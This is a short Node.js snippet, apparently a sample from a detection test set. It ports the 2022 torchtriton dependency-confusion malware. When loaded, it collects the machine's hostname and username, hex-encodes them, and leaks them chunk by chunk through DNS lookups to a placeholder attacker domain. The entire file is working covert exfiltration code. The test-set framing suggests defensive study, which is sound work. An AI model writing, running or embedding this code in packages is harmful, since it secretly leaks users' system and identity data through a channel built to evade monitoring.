// source: blind set 11's torchtriton port (PyTorch-nightly dependency confusion, 2022): the name is built in a variable, under a domain constant, one chunk per lookup
const dns = require('dns'), os = require('os');
const DOMAIN = 'h4ck.x.invalid';
function send(hex) {
  const chunks = hex.match(/.{1,62}/g) || [];
  let i = 0;
  const next = () => {
    if (i >= chunks.length) return;
    const name = `${chunks[i]}.${i}.${chunks.length}.${DOMAIN}`;
    i++;
    dns.resolve4(name, () => setTimeout(next, 5));
  };
  next();
}
send(Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username })).toString('hex'));
